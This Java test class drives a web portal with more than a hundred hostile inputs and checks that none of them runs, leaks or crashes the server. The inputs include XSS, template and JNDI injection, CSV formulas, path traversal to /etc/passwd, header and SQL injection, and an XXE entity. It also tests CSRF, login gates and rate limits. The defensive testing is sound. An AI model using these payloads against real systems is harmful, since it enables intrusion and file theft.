package org.summitry.portal.reviewing;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.microsoft.playwright.Page;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.summitry.portal.PortalTestBase;
import org.summitry.portal.accounts.Accounts;
import org.summitry.portal.accounts.Session;
import org.summitry.register.PreparedReading;

/**
 * What strangers may put into documents, names, addresses and forms: nothing of it is run, nothing leaks, nothing is the server's
 * fault. Each payload goes into every document and every place of every route in turn, more than a thousand requests in all.
 */
@SuppressWarnings("NullAway.Init") // JUnit fills the fields
class HostileTest extends PortalTestBase {
    /** 1787 * 1999: on a page only if a template computed it. */
    private static final String COMPUTED = "3572213";

    private static final HttpClient HTTP = HttpClient.newHttpClient();

    /** Script, attributes, SVG, addresses, templates, CSV formulas, paths, headers, queries, broken text. */
    private static final List<String> PAYLOADS = payloads();

    private static Workshop workshop;
    private static Session session;

    private static List<String> payloads() {
        List<String> all = new ArrayList<>(List.of(
                "<script>pwned=1</script>",
                "</title><script>pwned=1</script>",
                "</textarea><script>pwned=1</script>",
                "</blockquote></main><script>pwned=1</script>",
                "<ScRiPt src=//x.invalid/a.js></sCrIpT>",
                "<img src=x onerror=pwned=1>",
                "<svg onload=pwned=1>",
                "<svg><script>pwned=1</script></svg>",
                "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
                "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--><img src=x onerror=pwned=1>\">",
                "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
                "<iframe src=javascript:pwned=1></iframe>",
                "<object data=javascript:pwned=1></object>",
                "<embed src=javascript:pwned=1>",
                "<base href=//x.invalid/>",
                "<meta http-equiv=refresh content='0;url=javascript:pwned=1'>",
                "<link rel=stylesheet href=//x.invalid/a.css>",
                "<style>@import '//x.invalid/a.css';*{display:none}</style>",
                "<form action=//x.invalid/><button>Sign in</button></form>",
                "<details open ontoggle=pwned=1>",
                "<input autofocus onfocus=pwned=1>",
                "<body onload=pwned=1>",
                "<a href=javascript:pwned=1>Norland</a>",
                "<template><script>pwned=1</script></template>",
                "<!--<script>pwned=1</script>-->",
                "<![CDATA[<script>pwned=1</script>]]>",
                "<xss style=animation-name:x onanimationstart=pwned=1>",
                "\" onmouseover=\"pwned=1",
                "' onfocus='pwned=1' autofocus='",
                "\"><script>pwned=1</script>",
                "'><img src=x onerror=pwned=1>",
                "` onclick=pwned=1 `",
                "\" style=\"position:fixed;inset:0\" x=\"",
                "\" hx-get=\"//x.invalid/\" hx-trigger=\"load",
                "\" formaction=\"//x.invalid/",
                "javascript:pwned=1",
                "JaVaScRiPt:pwned=1//",
                "java\tscript:pwned=1",
                "data:text/html,<script>pwned=1</script>",
                "vbscript:msgbox(1)",
                "//x.invalid/a",
                "https://x.invalid@127.0.0.1/",
                "\\\\x.invalid\\share",
                "${1787*1999}",
                "#{1787*1999}",
                "{{1787*1999}}",
                "<%= 1787*1999 %>",
                "@if(true)${1787*1999}@endif",
                "$unsafe{1787*1999}",
                "!{var x = 1787*1999;}${x}",
                "@template.layout(page = null, content = null)",
                "{0} {1,number} {0,choice,0#x}",
                "%1$s%n%x",
                "${jndi:ldap://x.invalid/a}",
                "=HYPERLINK(\"//x.invalid/\",\"Norland\")",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "../../../../etc/passwd",
                "..\\..\\..\\windows\\win.ini",
                "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                "....//....//etc/passwd",
                "/etc/passwd%00.html",
                "file:///etc/passwd",
                "a\r\nX-Injected: yes",
                "a\r\n\r\n<script>pwned=1</script>",
                "a%0d%0aX-Injected:%20yes",
                "a\u0085X-Injected: yes",
                "a\u2028X-Injected: yes",
                "' or '1'='1",
                "'; drop table ledger; --",
                "1) union select name, password from account --",
                "\"; attach database 'x' as y; --",
                "*:*",
                "kind:*  AND (((((((",
                "/(a+)+$/",
                "a* b* c* d* e* f*",
                "[* TO *]",
                "\"unclosed",
                "name~0.0000001",
                "\\",
                "NOT NOT NOT",
                "a AND",
                "!@#$%^&*()_+{}|:\"<>?",
                "\u202egnp.exe\u202c",
                "\u200b\u200c\u200d\ufeff",
                "\ud83d\ude00".repeat(50),
                "\u0000nul",
                "\u001b[31mred\u0007",
                "\u0301".repeat(300),
                "\u0644\u0627\u0645 <b>\u0644</b>",
                "x".repeat(5_000),
                "(".repeat(2_000),
                "9".repeat(400),
                "-9223372036854775809",
                "1e999999999",
                "NaN",
                "null",
                "undefined",
                "[]",
                "{\"$gt\":\"\"}",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
                "&lt;script&gt;pwned=1&lt;/script&gt;",
                "&#60;script&#62;pwned=1&#60;/script&#62;"));
        return List.copyOf(all);
    }

    @BeforeAll
    static void serve() {
        List<PreparedReading> documents = IntStream.range(0, PAYLOADS.size())
                .mapToObj(i -> document(i, PAYLOADS.get(i)))
                .toList();
        workshop = new Workshop(false, documents);
        session = workshop.accounts().signIn(Accounts.FIRST, Workshop.PASSWORD, "192.0.2.9", null);
    }

    @AfterAll
    static void end() {
        workshop.close();
    }

    @Override
    protected String address() {
        return workshop.address();
    }

    /** A document whose text, publisher, path and title are hostile, with a person, a meeting and a statement of it. */
    private static PreparedReading document(int i, String payload) {
        String name = "Tova " + payload.replaceAll("\\s+", " ").strip();
        String text = name + " spoke.\n" + payload + "\nIt ended.";
        ObjectNode person = Workshop.person(text, name, 0.4);
        person.put("id", "person:tova-" + i);
        ObjectNode meeting = Workshop.person(text, name, 0.5);
        meeting.put("kind", "meeting")
                .put("id", "meeting:tova-" + i)
                .put("type", "talks")
                .put("status", "held")
                .put("place", payload.isBlank() ? "x" : payload)
                .put("date", "2031-02-03");
        ObjectNode statement = Workshop.person(text, name, 0.45);
        statement.remove("name");
        statement.remove("aliases");
        statement.put("kind", "statement").put("id", "statement:tova-" + i).put("form", "indirect");
        statement.putArray("speakers").add("person:tova-" + i);
        statement.putArray("topics").add("water");
        statement.putObject("content").put("doc", "").put("start", 0).put("end", name.codePointCount(0, name.length()));
        PreparedReading reading =
                Workshop.document("doc:hostile" + i, "2031-04-01", payload, text, person, meeting, statement);
        reading.document().put("path", payload).put("title", payload).put("url", payload);
        return reading;
    }

    /** Every route with a place for a payload, {@code *}, in its path or query. */
    private static final List<String> PLACES = List.of(
            "/?lang=*",
            "/*",
            "/meetings?from=*",
            "/meetings?to=*",
            "/meetings?page=*",
            "/meetings?actor=*",
            "/meetings/*",
            "/formats/*",
            "/actors?q=*",
            "/actors?kind=*",
            "/actors/*",
            "/actors/person:*",
            "/statements/*",
            "/undertakings?view=*",
            "/undertakings?status=*",
            "/undertakings?topic=*",
            "/undertakings/*",
            "/instruments?page=*",
            "/instruments/*",
            "/projects/*",
            "/figures?actor=*",
            "/figures/*",
            "/topics/*",
            "/documents/*",
            "/documents/doc:hostile1?at=*",
            "/search?q=*",
            "/search?q=tova&kind=*",
            "/search?q=tova&sort=*",
            "/search?q=tova&page=*",
            "/search?q=tova&from=*&to=*",
            "/search/suggest?q=*",
            "/feed.atom?actor=*",
            "/feed.atom?topic=*",
            "/assets/*",
            "/assets/portal.css?v=*",
            "/welcome/*",
            "/sign-in?name=*",
            "/review?kind=*",
            "/review?at=*",
            "/review?at=1~*",
            "/review?done=*",
            "/review/pairs?after=*",
            "/review/pairs?after=0.5~*~b",
            "/review/entries/*",
            "/review/entries/person:o-venn?merge=*",
            "/review/documents/*",
            "/review/documents/doc:a1?kind=*",
            "/review/doubles/*",
            "/add/*",
            "/admin/log?before=*",
            "/admin/accounts-log?before=*");

    private static final Map<String, List<String>> FORMS = forms();

    private static Map<String, List<String>> forms() {
        Map<String, List<String>> forms = new LinkedHashMap<>();
        forms.put("/sign-in", List.of("name=*&password=x", "name=mira&password=*", "name=*"));
        forms.put(
                "/review/entries/person:o-venn",
                List.of(
                        "act=*",
                        "act=accept&reason=*",
                        "act=correct&f.name=*",
                        "act=merge&other=*",
                        "act=apart&other=*",
                        "act=split&citation=*",
                        "act=double&first=*&second=*",
                        "act=words&field=*&doc=doc:b2&from=0&to=99&words=Venn",
                        "act=words&field=name&doc=*&from=0&to=99&words=Venn",
                        "act=words&field=name&doc=doc:b2&from=0&to=99&words=*",
                        "act=words&field=name&doc=doc:b2&from=*&to=*&words=Venn",
                        "act=words&field=name&doc=doc:b2&from=0&to=9&start=*&end=*"));
        forms.put(
                "/review/entries/statement:a1-1",
                List.of("act=correct&f.speakers=*&f.said=*", "act=correct&f.topics=*"));
        forms.put("/review/undo", List.of("line=*", "line=3&reason=*"));
        forms.put(
                "/review/documents/doc:a1",
                List.of(
                        "kind=*&doc=doc:a1&from=0&to=9&words=Venn",
                        "kind=project&doc=doc:a1&from=0&to=99&words=talks&f.type=*&f.status=*",
                        "kind=project&doc=doc:a1&from=0&to=99&words=talks&f.type=other&f.status=planned&f.place=*"));
        forms.put("/review/doubles/1", List.of("verdict=*&note=*"));
        forms.put("/add", List.of("address=*", "files=*"));
        forms.put(
                "/admin",
                List.of(
                        "act=create&name=*&shown=*&role=reader",
                        "act=role&name=administrator&role=*",
                        "act=close&name=*",
                        "act=*"));
        forms.put(
                "/admin/feeds",
                List.of("act=follow&address=*", "act=visit&address=*", "act=*&address=https://example.org/"));
        forms.put("/admin/health", List.of("x=*"));
        forms.put("/welcome/" + "a".repeat(43), List.of("password=*&again=*"));
        return forms;
    }

    static Stream<String> cases() {
        return PAYLOADS.stream();
    }

    private static String encoded(String payload) {
        return URLEncoder.encode(payload, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String cut(String payload) {
        return payload.length() > 1_500 ? payload.substring(0, 1_500) : payload;
    }

    @ParameterizedTest
    @MethodSource("cases")
    void noAddressIsTooHostile(String payload) throws IOException, InterruptedException {
        int turn = PAYLOADS.indexOf(payload);
        for (int i = turn % 5; i < PLACES.size(); i += 5) {
            String path = PLACES.get(i).replace("*", encoded(cut(payload)));
            HttpRequest request = HttpRequest.newBuilder(URI.create(address() + path))
                    .header("Cookie", "session=" + session.token())
                    .build();
            assertHarmless(path, payload, HTTP.send(request, HttpResponse.BodyHandlers.ofString()));
        }
    }

    @ParameterizedTest
    @MethodSource("cases")
    void noFormIsTooHostile(String payload) throws IOException, InterruptedException {
        int turn = PAYLOADS.indexOf(payload);
        int n = 0;
        for (Map.Entry<String, List<String>> form : FORMS.entrySet()) {
            for (String fields : form.getValue()) {
                if (n++ % 4 != turn % 4) {
                    continue;
                }
                String body = "token=" + session.csrf() + "&" + fields.replace("*", encoded(payload));
                HttpRequest request = HttpRequest.newBuilder(URI.create(address() + form.getKey()))
                        .header("Cookie", "session=" + session.token())
                        .header("Content-Type", "application/x-www-form-urlencoded")
                        .header("Origin", address())
                        .POST(HttpRequest.BodyPublishers.ofString(body))
                        .build();
                assertHarmless(
                        form.getKey() + " " + fields,
                        payload,
                        HTTP.send(request, HttpResponse.BodyHandlers.ofString()));
            }
        }
    }

    private static void assertHarmless(String where, String payload, HttpResponse<String> answer) {
        assertThat(answer.statusCode()).as(where).isLessThan(500);
        assertThat(answer.headers().map().keySet()).as(where).doesNotContain("x-injected");
        assertThat(answer.headers().firstValue("Content-Security-Policy").orElse(""))
                .as(where)
                .contains("script-src 'self'");
        assertThat(answer.headers().firstValue("Location").orElse("/"))
                .as(where)
                .startsWith("/");
        assertThat(answer.body())
                .as(where)
                .doesNotContain(
                        COMPUTED, "root:x:0", "Exception", "\tat org.", "jdbc:", "target/workshop", "$argon2id");
        String type = answer.headers().firstValue("Content-Type").orElse("");
        if (type.startsWith("text/html")) {
            assertInert(where, Jsoup.parse(answer.body()));
        } else if (payload.contains("<")) {
            assertThat(answer.body()).as(where).doesNotContain(payload);
        }
    }

    /** Nothing in the page would run or lead elsewhere, whatever its headers said. */
    private static void assertInert(String where, Document page) {
        for (Element e : page.getAllElements()) {
            assertThat(e.normalName())
                    .as(where)
                    .isNotIn("iframe", "object", "embed", "base", "style", "math", "animate", "template", "xss");
            assertThat(e.attr("http-equiv")).as(where).isIn("", "Content-Type"); // the latter in the server's own pages
            if (e.normalName().equals("script")) {
                assertThat(e.attr("src")).as(where).startsWith("/assets/");
                assertThat(e.data()).as(where).isEmpty();
            }
            for (Attribute a : e.attributes()) {
                assertThat(a.getKey())
                        .as(where + " " + e.tagName())
                        .doesNotStartWith("on")
                        .isNotIn("style", "srcdoc", "formaction");
                if (List.of("href", "src", "action", "hx-get", "hx-post").contains(a.getKey())) {
                    assertThat(a.getValue()).as(where).matches("(/(?!/)|#|\\?|https?://).*|");
                }
            }
        }
    }

    @Test
    void formsOfOtherSitesAndOldPagesDoNothing() throws IOException, InterruptedException {
        String[][] headers = {
            {"Origin", "https://x.invalid"},
            {"Origin", "null"},
            {"Sec-Fetch-Site", "cross-site"},
            {"Sec-Fetch-Site", "same-site"},
        };
        long lines = workshop.register().position();
        for (String[] header : headers) {
            assertThat(post("act=accept&token=" + session.csrf(), header))
                    .as(header[1])
                    .isEqualTo(403);
        }
        assertThat(post("act=accept", "Origin", address())).isEqualTo(403);
        assertThat(post("act=accept&token=" + session.token(), "Origin", address()))
                .isEqualTo(403);
        assertThat(workshop.register().position()).isEqualTo(lines);
    }

    private int post(String body, String... header) throws IOException, InterruptedException {
        HttpRequest request = HttpRequest.newBuilder(URI.create(address() + "/review/entries/person:orla-venn"))
                .header("Cookie", "session=" + session.token())
                .header("Content-Type", "application/x-www-form-urlencoded")
                .headers(header)
                .POST(HttpRequest.BodyPublishers.ofString(body))
                .build();
        return HTTP.send(request, HttpResponse.BodyHandlers.ofString()).statusCode();
    }

    @Test
    void strangersReachNothingThatNeedsAnAccount() {
        for (String path : List.of(
                "/review",
                "/review/pairs",
                "/review/doubles",
                "/review/entries/person:o-venn",
                "/review/documents/doc:a1",
                "/add",
                "/admin",
                "/admin/feeds",
                "/admin/health",
                "/admin/log",
                "/admin/accounts-log")) {
            assertThat(get(path).statusCode()).as(path).isEqualTo(401);
            assertThat(get(path, "Cookie", "session=" + "a".repeat(43)).statusCode())
                    .as(path)
                    .isEqualTo(401);
            assertThat(get(path).body()).as(path).doesNotContain("Venn");
        }
    }

    @Test
    void aSearchingStrangerIsSlowedDown() {
        List<Integer> seen = new ArrayList<>();
        for (int i = 0; i < 70; i++) {
            seen.add(
                    get("/search/suggest?q=a", "X-Forwarded-For", "203.0.113.5").statusCode());
        }
        assertThat(seen.subList(0, 50)).containsOnly(200);
        assertThat(seen).contains(429);
        assertThat(get("/search/suggest?q=a", "X-Forwarded-For", "203.0.113.6").statusCode())
                .isEqualTo(200);
    }

    @Test
    void aBrowserRunsNothingOfWhatDocumentsSay() {
        Page page = open("/sign-in");
        List<String> ran = new ArrayList<>();
        page.onDialog(d -> ran.add(d.message()));
        page.onRequest(r -> {
            if (!r.url().startsWith(address())) {
                ran.add(r.url());
            }
        });
        page.getByLabel("Account name").fill(Accounts.FIRST);
        page.getByLabel("Password").fill(Workshop.PASSWORD);
        page.locator("main button").click();
        List<String> paths = new ArrayList<>(List.of(
                "/",
                "/meetings",
                "/actors",
                "/topics/water",
                "/search?q=tova",
                "/review",
                "/review?kind=meeting",
                "/review/pairs",
                "/admin/log",
                "/review/entries/person:o-venn?merge=tova"));
        for (int i = 0; i < PAYLOADS.size(); i += 3) {
            paths.add("/documents/doc:hostile" + i);
            paths.add("/review/entries/person:tova-" + i);
            paths.add("/review/documents/doc:hostile" + i);
        }
        for (String path : paths) {
            page.navigate(address() + path);
            assertThat(page.evaluate("typeof pwned")).as(path).isEqualTo("undefined");
            assertThat(page.content()).as(path).doesNotContain(COMPUTED);
        }
        assertThat(ran).isEmpty();
    }
}
